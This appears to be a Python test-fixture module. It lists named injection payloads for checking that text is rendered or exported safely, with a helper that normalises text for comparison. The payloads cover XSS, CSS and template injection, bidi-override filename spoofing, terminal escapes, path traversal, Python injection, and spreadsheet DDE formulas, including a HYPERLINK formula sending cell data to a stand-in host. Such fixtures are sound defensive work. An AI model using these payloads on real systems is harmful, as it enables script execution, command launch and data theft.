"""Texts that would do something if anything read them as more than text; each is harmless to keep and says its own name."""

from __future__ import annotations

import re
import unicodedata

ATTACKS = {
    "script": "<script>window.jahat=1;alert('a')</script>",
    "handler": '<img src=x onerror="window.jahat=1;alert(1)">',
    "svg": "<svg onload=window.jahat=1><a xlink:href=javascript:alert(1)>b</a></svg>",
    "frame": "<iframe srcdoc='<script>parent.jahat=1</script>'></iframe>",
    "close": "</p></td></style></title></details></script><script>window.jahat=1</script>",
    "quote": "\" onmouseover=\"window.jahat=1\" autofocus onfocus='window.jahat=1' x='",
    "css": '"; } body { display: none } @import url(http://jahat.invalid/a.css); p { content: "',
    "css_line": 'a"\n; } body { display: none } main::before { content: url(http://jahat.invalid/b.png) } x { y: "',
    "comment": "--> <!-- <b>tebal</b> ]]> <![CDATA[",
    "link": "[klik](javascript:alert(1)) <javascript:alert(1)> http://jahat.invalid/",
    "picture": "![gambar](http://jahat.invalid/p.png) **tebal** `kode`",
    "math": r"$\href{javascript:alert(1)}{x}$ $$\frac{a$$ \(\unknown\) $",
    "template": "{{ 7*7 }} {% raw %} ${7*7} {0.__class__} {unit} #{1+1} %(a)s %s",
    "entity": "&lt;b&gt; &#x3C;script&#x3E; &amp;amp; &nbsp",
    "override": "laporan\u202egnp.exe\u2066abc\u2069\u200f",
    "control": "a\x1b[31mmerah\x07\x00\x08b\x9b2Jc",
    "formula": '=HYPERLINK("http://jahat.invalid/?"&A1,"klik")',
    "dde": "=cmd|'/C calc'!A0",
    "plus": "+cmd|'/C calc'!A0",
    "minus": "-2+3+cmd|'/C calc'!A0",
    "at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "wide": "\uff1d1+1",
    "python": '\'); import os; os._exit(3) #"""',
    "path": "../../../../tmp/jahat/..\\..\\con",
}
"""Name -> text. Those with an address name a host that does not exist."""


def flat(text: str) -> str:
    """Letters, digits and marks of a text in order, without blanks and characters that have no glyph: how texts are compared over formats."""
    kept = (letter for letter in text if unicodedata.category(letter) not in ("Cc", "Cf", "Co", "Cn") and letter != "\ufffd")
    return re.sub(r"\s+", "", "".join(kept))
